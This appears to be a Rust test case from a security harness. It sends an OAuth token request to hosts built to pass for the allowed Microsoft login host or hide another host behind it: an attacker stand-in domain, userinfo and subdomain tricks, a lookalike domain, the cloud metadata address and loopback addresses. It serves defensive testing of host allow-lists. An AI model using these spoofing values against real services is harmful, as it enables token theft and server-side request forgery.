//! Sends the form to hosts that look like the allowed one, or hide another behind it.

#![no_main]

use hostile::{Answer, Attempt, Call, form, post, tell_all};

struct PostToAnotherHost;

impl Attempt for PostToAnotherHost {
    fn get_token(_: &Call) -> Answer {
        let hosts = [
            "evil.example",
            "login.microsoftonline.com.evil.example",
            "login.microsoftonline.com@evil.example",
            "evil.example#login.microsoftonline.com",
            "login.microsoftonline.com.",
            "login-microsoftonline.com",
            "169.254.169.254",
            "localhost",
            "[::1]",
        ];
        tell_all(hosts.map(|host| post(&format!("https://{host}/organizations/oauth2/v2.0/token"), &[], &form(""))))
    }
}

hostile::attempt!(PostToAnotherHost);
